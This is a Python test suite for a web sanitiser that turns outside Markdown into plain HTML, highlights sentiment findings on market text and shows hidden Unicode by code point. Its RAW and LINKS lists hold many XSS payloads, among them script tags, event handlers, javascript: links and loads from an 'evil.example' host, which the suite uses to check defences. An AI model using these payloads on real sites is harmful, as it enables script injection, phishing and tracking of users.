"""What an outside text becomes on the page: Markdown as plain HTML, findings marked, and nothing that runs or loads."""

import re
import time
from html.parser import HTMLParser
from urllib.parse import unquote

import growth
import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from sentiment.formatting import visible
from sentiment.research import library, text
from sentiment.research.text import Annotation
from sentiment.web import markup

TAGS = {
    *(
        "p",
        "ul",
        "ol",
        "li",
        "em",
        "strong",
        "blockquote",
        "h3",
        "h4",
        "h5",
        "h6",
        "code",
        "pre",
        "br",
        "hr",
        "a",
        "mark",
    ),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"a": {"href", "rel"}, "mark": {"class", "title"}}
VOID = {"br", "hr"}
SCHEME = re.compile(r"https://[^\s/]", re.IGNORECASE)


class Strict(HTMLParser):
    """Fails on whatever is not on the list, is not closed, or is closed out of order."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.open = []

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS, tag
        assert {name for name, _ in attrs} <= ATTRIBUTES.get(tag, set()), attrs
        for name, value in attrs:
            if name == "href":
                assert SCHEME.match(value), value
            if name == "rel":
                assert value == "noopener noreferrer nofollow"
            if name == "class":
                assert set(value.split()) <= markup.CLASSES
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def checked(body, annotations=()):
    shown = markup.html(body, annotations)
    parser = Strict()
    parser.feed(shown)
    parser.close()
    assert not parser.open
    return shown


def words(shown):
    return BeautifulSoup(shown, "html.parser").get_text()


def squeezed(shown):
    return "".join(shown.split())


@pytest.mark.parametrize(
    ("body", "shown"),
    [
        ("", ""),
        ("One *two* **three** `four`", "<p>One <em>two</em> <strong>three</strong> <code>four</code></p>\n"),
        ("# A\n\n## B\n\n#### C", "<h3>A</h3>\n<h3>B</h3>\n<h4>C</h4>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>\n"),
        ("a  \nb\n\n---", "<p>a<br>\nb</p>\n<hr>\n"),
        ("```py\na < b\n```", "<pre><code>a &lt; b\n</code></pre>\n"),
    ],
)
def test_markdown_becomes_plain_html(body, shown):
    assert checked(body) == shown


def test_a_link_leads_to_https_and_tells_nobody_whence():
    shown = '<p><a href="https://b.example/?c=d&amp;e" rel="noopener noreferrer nofollow">a</a></p>\n'
    assert checked('[a](https://b.example/?c=d&e "a title")') == shown


def test_an_image_is_no_more_than_a_link():
    assert "<img" not in checked("![a](https://b.example/c.png)")
    assert words(checked("![a](https://b.example/c.png)")) == "!a\n"


def test_a_table_is_shown_as_one():
    soup = BeautifulSoup(checked("| a | b |\n|:--|--:|\n| 1 | 2 |"), "html.parser")
    assert [cell.get_text() for cell in soup.find_all(["th", "td"])] == ["a", "b", "1", "2"]


RAW = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=`javascript:alert(1)`>",
    "<body onload=alert(1)>",
    "<div style='width: expression(alert(1))'>x</div>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=a><button>go</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html><p>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<mark class=level onclick=alert(1)>x</mark>",
    "</p></div></body><script>alert(1)</script>",
    "<p id=root class=stApp>x</p>",
    "<a\nhref=javascript:alert(1)\n>x</a>",
]
LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](?view=Other)",
    "[x](http://plain.example)",
    "[x](https:alert)",
    "[x](https:///path)",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    '[x](https://a.example/"onmouseover=alert(1))',
    "[x](https://a.example/'><script>alert(1)</script>)",
    '[x](https://a.example/ "t\\" onmouseover=alert(1)")',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<https://a.example/<script>>",
    "<mailto:a@b.example>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: //evil.example",
    "![x][1]\n\n[1]: https://evil.example/pixel.gif",
    "[![x](https://evil.example/a.gif)](javascript:alert(1))",
    "[x](https://a.example) <script>",
    "https://bare.example",
]


@pytest.mark.parametrize("hostile", RAW + LINKS)
@pytest.mark.parametrize(
    "frame", ["{}", "before {} after", "- {}", "> {}", "# {}", "**{}**", "| {} |\n|--|", "a\n\n{}\n\nb"]
)
def test_nothing_that_runs_loads_or_leads_astray_reaches_the_page(hostile, frame):
    body = frame.replace("{}", hostile)
    checked(body)
    checked(body, text.annotate(body).findings)


@pytest.mark.parametrize("hostile", RAW)
def test_raw_html_is_shown_as_it_was_written(hostile):
    expected = MarkdownIt("commonmark", {"html": False}).disable(["image", "link", "autolink"]).render(hostile)
    assert squeezed(words(checked(hostile))) == squeezed(words(expected))
    assert "alert" in words(checked(hostile)) or "alert" not in hostile


@pytest.mark.parametrize("hostile", [link for link in LINKS[:19] if not {"\x01", "&", "\\"} & set(link)])
def test_a_link_elsewhere_stays_text_in_full(hostile):
    assert "<a" not in checked(hostile)
    assert squeezed(words(checked(hostile))) == squeezed(hostile)


@pytest.mark.parametrize(
    ("hidden", "shown"),
    [
        ("a\u202eb", "a[U+202E]b"),
        ("a\u2066b\u2069", "a[U+2066]b[U+2069]"),
        ("a\u200bb", "a[U+200B]b"),
        ("a\u00adb", "a[U+00AD]b"),
        ("a\ue000b", "a[U+E000]b"),
        ("a\U000e0041b", "a[U+E0041]b"),
        ("a\x1bb", "a[U+001B]b"),
        ("a\u3164b", "a[U+3164]b"),
        ("`a\u202eb`", "a[U+202E]b"),
        ("a\0b\ud800c\U000f0001d", "a\ufffdb\ufffdc\ufffdd"),
    ],
)
def test_what_no_eye_sees_is_shown_by_its_number(hidden, shown):
    assert words(checked(hidden)).strip() == shown


def marked(shown):
    return [(mark.get_text(), mark["class"], mark["title"]) for mark in BeautifulSoup(shown, "html.parser")("mark")]


def finding(kind, value, start, end, role=""):
    return Annotation(kind, value, start, end, "rule", role)


def test_every_finding_is_marked_with_its_words_and_its_rule():
    body = "Bitcoin fell to support at $80,000 by year-end."
    assert marked(checked(body, text.annotate(body, library.find("k33-2025-12-02").day).findings)) == [
        ("Bitcoin", ["asset", "tone-negative"], "asset BTC-USD: name; tone −0.5: direction x object"),
        (" fell", ["tone-negative"], "tone −0.5: direction x object"),
        ("support", ["topic"], "topic negative support: topic word"),
        ("80,000", ["level"], "level support 80,000: price called support"),
        ("year-end", ["horizon"], "horizon 2025-12-31: year-end"),
    ]


def test_overlapping_findings_share_the_words_that_both_cover():
    both = [finding("asset", "BTC-USD", 0, 7), finding("tone", 0.0, 4, 10)]
    assert marked(checked("Bitcoin is.", both)) == [
        ("Bitc", ["asset"], "asset BTC-USD: rule"),
        ("oin", ["asset", "tone-neutral"], "asset BTC-USD: rule; tone 0: rule"),
        (" is", ["tone-neutral"], "tone 0: rule"),
    ]


@pytest.mark.parametrize(
    ("body", "start", "end", "expected"),
    [
        ("a **b** c", 0, 9, ["a ", "b", " c"]),
        ("a *b c* d", 3, 9, ["b c", " d"]),
        ("`a b`", 1, 4, ["a b"]),
        ("```\na b\n```\n\nc", 4, 5, ["a"]),
        ("[a b](https://c.example)", 1, 2, ["a"]),
        ("[a](https://btc.example) d", 12, 15, []),
        ("<https://c.example/BTC> d", 19, 22, ["BTC"]),
        ("- a\n- b", 2, 7, ["a", "b"]),
        ("| a | b |\n|---|---|\n| c | d |", 22, 23, ["c"]),
        ("a\r\nb", 0, 2, ["a"]),
        ("a\r\nb", 2, 4, ["b"]),
        ("a &amp; b", 3, 5, None),
    ],
)
def test_a_mark_never_crosses_a_tag(body, start, end, expected):
    shown = checked(body, [finding("topic", "fear", start, end)])
    assert words(shown) == words(checked(body)) or "&" in body
    assert "\U000f0000" not in shown
    assert "%F3%B0" not in shown
    if expected is not None:
        assert [mark.strip("\n") for mark, _, _ in marked(shown) if mark.strip()] == expected


def test_a_border_in_an_address_does_not_run_on_past_its_paragraph():
    shown = checked("[a](https://btc.example)\n\nb", [finding("topic", "fear", 1, 15)])
    assert [mark for mark, _, _ in marked(shown)] == ["a"]


def test_a_title_from_outside_cannot_break_out():
    shown = checked("abc", [Annotation("topic", '"><script>', 0, 3, "<b>\u202e", '"')])
    assert marked(shown) == [("abc", ["topic"], 'topic " "><script>: <b>[U+202E]')]


@pytest.mark.parametrize(
    "body",
    ["> " * 30 + "deep", "- " * 30 + "deep", "x" * 2_001 + " *a*", "*a* b\n" * 11_000, "> - " * 15 + "deep <script>"],
)
def test_what_no_parser_should_see_is_plain_text_and_still_marked(body):
    shown = checked(body, [finding("topic", "fear", len(body) - 1, len(body))] if body[-1] != "\n" else ())
    assert not {"<em>", "<blockquote>", "<ul>"} & set(re.findall("<[a-z]+>", shown))
    assert squeezed(words(shown)) == squeezed(body)
    assert len(marked(shown)) == (body[-1] != "\n")


def test_nesting_that_a_parser_takes_loses_no_word():
    for depth in range(1, 40):
        for piece in ("> ", "- ", "> - ", "1. "):
            assert "deepest" in words(checked(piece * depth + "deepest"))


ANY = st.one_of(
    st.text(max_size=120),
    st.lists(
        st.sampled_from(
            ["[", "](", ")", "![", "<", ">", "*", "_", "`", "```", "\n", "\r\n", "- ", "> ", "# ", "|", "|-|", "&amp;", "&#x3c;",
             "https://a.example", "javascript:", "<script>", "<!--", "-->", "[1]: ", "\\", '"', "'", "a", "BTC", " ", "    ", "\t",
             "\u202e", "\U000f0000", "\ud800", "\0"]
        ),
        max_size=50,
    ).map("".join),
)  # fmt: skip
SPANS = st.lists(st.tuples(st.integers(-3, 130), st.integers(-3, 130)), max_size=6)


@given(ANY, SPANS)
def test_any_text_with_any_findings_is_on_the_list(body, spans):
    shown = checked(body, [finding("topic", "fear", *span) for span in spans])
    assert not re.search("[\U000f0000-\U000ffffd]", shown)


@given(st.text(st.sampled_from("ab cd\n"), max_size=60), SPANS)
def test_marks_cover_exactly_the_words_of_their_findings(body, spans):
    body = re.sub(r"\s+", " ", body).strip()
    annotations = [
        Annotation("topic", f"t{k}", start, end, "rule")
        for k, (start, end) in enumerate(spans)
        if 0 <= start < end <= len(body)
    ]
    shown = checked(body, annotations)
    assert words(shown).strip() == words(checked(body)).strip() == body
    for annotation in annotations:
        mine = "".join(mark for mark, _, title in marked(shown) if annotation.value in re.findall(r"t\d", title))
        assert squeezed(mine) == squeezed(body[annotation.start : annotation.end])


@pytest.mark.parametrize(
    "piece",
    ["[", "*", "`", "> ", "![", "](", "<", "[a](", "**a ", "_*", "[a][", "- ", "|a", "&", "\\", "<!--", "~~~\n", "[]()", "`\n",
     "\n- ", "|a|b\n|-|-\n", "[x]: https://a.b\n", "\u202e"],
)  # fmt: skip
def test_hostile_markdown_takes_time_in_step_with_its_length(piece):
    def shown(length):
        run = (piece * (length // len(piece) + 1))[:length]
        body = run if "\n" in piece else "\n".join(run[k : k + 1_900] for k in range(0, length, 1_900))[:length]
        markup.html(body)

    assert growth.in_step(shown, 32_000)


def test_a_wide_table_costs_no_more_than_its_text():
    start = time.process_time()
    checked("|a" * 900 + "\n" + "|-" * 900 + "\n" + "|x\n" * 19_000)
    assert time.process_time() - start < 10


STREAMLIT = re.compile(  # what its page replaces in text after escapes are resolved, and what it makes links of
    r":(?:material/|streamlit)?[\w+-]+:|https?://[-.\w]|www\.[-.\w]|[-.\w+]+@[-\w]+\.|(?:^|\s)(?:<->|->|<-|--|>=|<=|~=)(?:\s|$)"
)


@pytest.mark.parametrize(
    "outside",
    ["**a** _b_ ~~c~~", "[a](https://b.example)", "![a](https://b.example/c.png)", "<b>a</b> <script>", "`a`", "# a", "- a",
     "1. a", "> a", "$x$ and $$y$$", ":red[a] :blue-background[b]", ":material/home: :streamlit:", ":smile: :+1:", "a | b\n--|--",
     "https://a.example www.a.example a@b.example", "a\n\nb", "    code", "&lt;b&gt; &colon;", "a -> b <- c -- d >= e <-> f",
     "\\*a\\*", "a\u202eb", "[1]: https://a.example", "***", "~~~", "12:30", ":::note"],
)  # fmt: skip
def test_plain_shows_every_letter_as_it_is_written(outside):
    line = markup.plain(outside)
    assert "\n" not in line
    rendered = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(line)
    shown = BeautifulSoup(rendered, "html.parser")
    assert {tag.name for tag in shown.find_all()} <= {"p"}
    assert shown.get_text().strip().replace("\u2060", "") == " ".join(visible(outside).split())
    assert not STREAMLIT.search(shown.get_text().strip())
    assert not re.search(r"(?<!\\)[$:\[<*_`]", line)


@given(ANY)
def test_plain_is_one_line_that_renders_as_itself(outside):
    line = markup.plain("".join(character for character in outside if character not in "\ud800\0"))
    shown = BeautifulSoup(MarkdownIt("commonmark").render(line), "html.parser")
    assert {tag.name for tag in shown.find_all()} <= {"p"}
    assert not STREAMLIT.search(shown.get_text().strip())


@pytest.mark.parametrize(
    ("address", "target"),
    [
        ("https://a.example/b?c=d&e=f#g", "https://a.example/b?c=d&e=f#g"),
        ("http://a.example/b_(c)", "http://a.example/b_%28c%29"),
        ("https://a.example/%28?q=a%20b", "https://a.example/%28?q=a%20b"),
        ("https://x.example/)&#32;**Verified**&#32;[Sign&#32;in](https://evil.example/login", None),
        ("https://x.example/)![](data:image/svg+xml,x)", None),
        ("https://x.example/$a$:red[b]<b>`c`\\[d]", None),
        ("HTTPS://x.example/\u202e é", None),
    ],
)
def test_a_link_is_one_link_whatever_its_address_holds(address, target):
    line = markup.link("a [source](https://evil.example)", address)
    inside = MarkdownIt("commonmark").parseInline(line)[0].children
    assert [token.type for token in inside] == ["link_open", "text", "link_close"]
    href = inside[0].attrs["href"]
    assert target is None or href == target
    assert unquote(href) == unquote(address)
    assert not set(href) & set("()[]<>*_`$;!\\ \"'") or target


@pytest.mark.parametrize(
    "address",
    [None, "", "javascript:alert(1)", "ftp://a.example", "/x", "?view=Data", "https://", "data:,x", "//a.example"],
)
def test_only_addresses_of_the_web_are_links(address):
    assert markup.link("a *source*", address) == markup.plain("a *source*")


@pytest.mark.parametrize(
    ("body", "stated", "told"),
    [
        ("The rally failed.", None, "strongly negative, tone −0.58. On"),
        ("The rally failed.", 0.25, "tone −0.58; what counts is the +0.25 that a person set. On"),
        ("The rally failed.", "unread", "what counts is that a person set none: it has no part in any mean. On"),
        ("We meet on Tuesday.", None, "unread: no cue was found, so it has no part in any mean. On"),
        ("We meet on Tuesday.", 0.25, "unread: no cue was found; what counts is the +0.25 that a person set. On"),
        ("The Committee raised the policy rate.", None, "<strong>This is the language of central banks"),
    ],
)
def test_the_legend_tells_what_was_read_what_counts_and_how_far_to_trust_it(body, stated, told):
    assert told in markup.legend(text.annotate(body), stated)
